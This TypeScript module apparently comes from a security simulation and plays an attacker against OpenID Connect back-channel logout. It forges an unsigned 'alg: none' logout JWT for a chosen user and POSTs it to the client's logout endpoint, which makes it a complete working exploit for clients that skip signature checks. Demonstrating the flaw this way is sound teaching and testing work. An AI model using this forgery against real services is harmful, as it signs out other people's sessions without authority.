/** The attacker: wants other people signed out, and sends the second app what he has. */
import { UnsecuredJWT } from 'jose'
import type { ServerGlobals } from '../../simulation/index.ts'

/** What everybody can find out: the names of both sides, and who Ada is. */
export interface Target {
  readonly issuer: string
  readonly client_id: string
  readonly backchannel_logout_uri: string
  readonly sub: string
}

/** A logout token of his own making, without a signature (`alg: none`). */
export function forgeToken({ Date: clock }: ServerGlobals, { issuer, client_id, sub }: Target): string {
  // #region forged-token
  const events = { 'http://schemas.openid.net/event/backchannel-logout': {} }
  return new UnsecuredJWT({ events, jti: 'made-up' })
    .setIssuer(issuer)
    .setAudience(client_id)
    .setSubject(sub)
    .setIssuedAt(Math.floor(clock.now() / 1000))
    .encode()
  // #endregion
}

/** Sends a token to the address where logout tokens are taken; it is open to everybody, the token must speak for itself. */
export async function sendToken({ fetch }: ServerGlobals, target: Target, logout_token: string): Promise<number> {
  // #region forged-token
  const response = await fetch(target.backchannel_logout_uri, {
    method: 'POST',
    body: new URLSearchParams({ logout_token }),
  })
  return response.status
  // #endregion
}
